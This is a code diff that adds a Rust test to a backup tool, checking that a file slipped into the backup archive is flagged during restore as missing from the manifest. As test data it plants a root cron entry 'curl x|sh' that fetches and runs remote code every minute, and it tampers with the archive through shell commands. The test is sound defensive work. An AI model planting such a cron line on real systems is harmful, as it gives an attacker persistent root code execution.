@@ -118,3 +118,41 @@ fn a_file_that_changes_during_the_backup_is_restored_unverified() {
     };
     changed_during_backup_is_restored_unverified(&b, &Real::default(), d.path());
 }
+
+/// A file slipped into the archive after the backup (as an attacker with
+/// write access to the backup server would) is restored by tar, but no
+/// manifest entry vouches for it: the restore fails, naming it.
+#[test]
+fn a_file_added_to_the_archive_fails_the_restore() {
+    let d = tempfile::tempdir().unwrap();
+    let src = d.path().join("src");
+    fs::create_dir_all(src.join("etc/cron.d")).unwrap();
+    fs::write(src.join("etc/cron.d/ok"), "* * * * * root true\n").unwrap();
+    let b = Tar {
+        dir: d.path().join("target"),
+    };
+    b.backup(&spec(&src), &Real::default()).unwrap();
+    let gen = generation::current(&b.dir).unwrap().unwrap();
+    let archive = b.dir.join(gen).join(ARCHIVE);
+    let evil = d.path().join("evil");
+    fs::create_dir_all(evil.join("etc/cron.d")).unwrap();
+    fs::write(evil.join("etc/cron.d/evil"), "* * * * * root curl x|sh\n").unwrap();
+    let plain = d.path().join("plain.tar");
+    common::sh(&format!(
+        "zstd -q -d -o '{p}' '{a}' && tar --append --file='{p}' -C '{e}' ./etc/cron.d/evil && zstd -q -f -o '{a}' '{p}'",
+        p = plain.display(),
+        a = archive.display(),
+        e = evil.display()
+    ));
+    let dst = d.path().join("dst");
+    fs::create_dir_all(&dst).unwrap();
+    let err = format!(
+        "{:#}",
+        restore_and_verify(&b, &dst, &Real::default()).unwrap_err()
+    );
+    assert!(dst.join("etc/cron.d/evil").is_file(), "tar restored it");
+    assert!(
+        err.contains("etc/cron.d/evil: restored, but not in the backup's manifest"),
+        "{err}"
+    );
+}
